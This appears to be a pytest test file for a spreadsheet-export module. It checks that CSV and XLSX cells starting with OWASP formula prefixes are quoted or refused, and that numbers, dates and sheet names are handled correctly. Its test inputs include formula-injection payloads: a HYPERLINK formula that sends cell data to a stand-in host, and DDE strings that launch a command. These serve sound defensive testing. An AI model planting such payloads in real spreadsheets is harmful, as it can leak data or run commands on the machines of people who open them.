"""dresskit.spreadsheets: no CSV or XLSX cell dresskit writes runs as a formula (OWASP)."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from dresskit.errors import InputError
from dresskit.spreadsheets import (
    FORMULA_PREFIXES,
    csv_bytes,
    neutralise_csv_text,
    restore_csv_text,
    starts_like_formula,
    xlsx_bytes,
)

#: One text per OWASP prefix (=, +, -, @, tab, carriage return), each a known payload shape.
FORMULAS = (
    '=HYPERLINK("http://x/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def read_back(data: bytes) -> pl.DataFrame:
    return pl.read_csv(data, infer_schema=False)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_text_gets_a_leading_quote_in_csv(text: str) -> None:
    written = read_back(csv_bytes(pl.DataFrame({"drug": [text]})))
    assert written.item() == "'" + text


@pytest.mark.parametrize("text", ["-1.5", "+3", "-0", "1e-5", "-.5", "12"])
def test_a_number_written_as_text_is_left_as_it_is(text: str) -> None:
    assert read_back(csv_bytes(pl.DataFrame({"dose": [text]}))).item() == text


def test_numeric_columns_are_never_quoted() -> None:
    frame = pl.DataFrame({"dose": [-1.5, 2.0], "days": [-3, 4], "on": [date(2020, 1, 2)] * 2})
    assert csv_bytes(frame).decode() == "dose,days,on\n-1.5,-3,2020-01-02\n2.0,4,2020-01-02\n"


def test_missing_and_empty_text_stay_distinct_and_unquoted() -> None:
    frame = pl.DataFrame({"text": [None, "", "plain"]})
    assert csv_bytes(frame).decode() == 'text\n\n""\nplain\n'


def test_enumerations_and_lists_are_neutralised_too() -> None:
    frame = pl.DataFrame(
        {
            "code": pl.Series(["=x", "y"], dtype=pl.Enum(["=x", "y"])),
            "agents": [["=a", "b"], ["c"]],
        }
    )
    written = read_back(csv_bytes(frame))
    assert written.rows() == [("'=x", "'=a; b"), ("y", "c")]


@given(st.text())
def test_no_written_text_starts_like_a_formula_and_the_quote_is_reversible(text: str) -> None:
    written = neutralise_csv_text(text)
    assert not starts_like_formula(written)
    assert restore_csv_text(written) == text


@given(st.text(alphabet="'=+-@\t\r0123456789.eE x", max_size=8))
def test_the_quote_is_reversible_for_texts_made_of_prefixes_and_quotes(text: str) -> None:
    assert restore_csv_text(neutralise_csv_text(text)) == text


def xlsx_cells(data: bytes, sheet: str) -> list[list[tuple[object, str, bool]]]:
    rows = load_workbook(io.BytesIO(data))[sheet].iter_rows()
    return [[(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in row] for row in rows]


@pytest.mark.parametrize("text", [text for text in FORMULAS if not text.startswith("\r")])
def test_a_formula_text_is_a_quoted_string_cell_in_xlsx(text: str) -> None:
    cells = xlsx_cells(xlsx_bytes({"drugs": pl.DataFrame({"drug": [text]})}), "drugs")
    assert cells[1] == [(text, "s", True)]


def test_a_carriage_return_is_refused_in_xlsx_as_it_would_read_back_as_a_newline() -> None:
    with pytest.raises(InputError, match="U\\+000D"):
        xlsx_bytes({"drugs": pl.DataFrame({"drug": ["\r=1+1"]})})


def test_too_many_rows_for_a_sheet_are_refused_before_writing() -> None:
    with pytest.raises(InputError, match="1048575 data rows"):
        xlsx_bytes({"big": pl.DataFrame({"x": range(1_048_576)})})


def test_an_xlsx_holds_no_formula_element() -> None:
    data = xlsx_bytes({"drugs": pl.DataFrame({"drug": list(FORMULAS[:-1])})})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml


def test_an_error_code_text_stays_text_in_xlsx() -> None:
    cells = xlsx_cells(xlsx_bytes({"t": pl.DataFrame({"x": ["#N/A", "#REF!"]})}), "t")
    assert cells[1:] == [[("#N/A", "s", False)], [("#REF!", "s", False)]]


def test_numbers_booleans_dates_and_missing_values_keep_their_types_in_xlsx() -> None:
    frame = pl.DataFrame(
        {
            "dose": [-1.5, None],
            "days": [-3, 4],
            "flag": [True, False],
            "on": [date(2020, 1, 2), None],
            "nan": [float("nan"), float("inf")],
        }
    )
    workbook = load_workbook(io.BytesIO(xlsx_bytes({"t": frame})))
    rows = list(workbook["t"].iter_rows(min_row=2, values_only=True))
    assert rows[0][:3] == (-1.5, -3, True)
    assert rows[0][3].date() == date(2020, 1, 2)  # type: ignore[union-attr]
    assert rows[1][:4] == (None, 4, False, None)
    assert (rows[0][4], rows[1][4]) == ("nan", "inf")


def test_sheets_are_written_in_order() -> None:
    data = xlsx_bytes({"b": pl.DataFrame({"x": [1]}), "a": pl.DataFrame({"x": [2]})})
    assert load_workbook(io.BytesIO(data)).sheetnames == ["b", "a"]


def test_a_control_character_is_refused_naming_sheet_row_and_column() -> None:
    frame = pl.DataFrame({"drug": ["fine", "bad\x01"]})
    with pytest.raises(InputError) as caught:
        xlsx_bytes({"drug_exposures": frame})
    assert (caught.value.source, caught.value.row, caught.value.field) == (
        "sheet drug_exposures",
        2,  # the second data row
        "drug",
    )
    assert "U+0001" in caught.value.expected


@pytest.mark.parametrize("name", ["", "a" * 32, "a/b", "x[1]", "q?"])
def test_a_sheet_name_excel_refuses_is_refused(name: str) -> None:
    with pytest.raises(InputError, match="sheet name"):
        xlsx_bytes({name: pl.DataFrame({"x": [1]})})


def test_every_owasp_prefix_is_listed() -> None:
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


def test_public_names_are_pinned() -> None:
    import dresskit.spreadsheets as module

    assert module.__all__ == [
        "FORMULA_PREFIXES",
        "csv_bytes",
        "neutralise_csv_text",
        "restore_csv_text",
        "starts_like_formula",
        "xlsx_bytes",
    ]
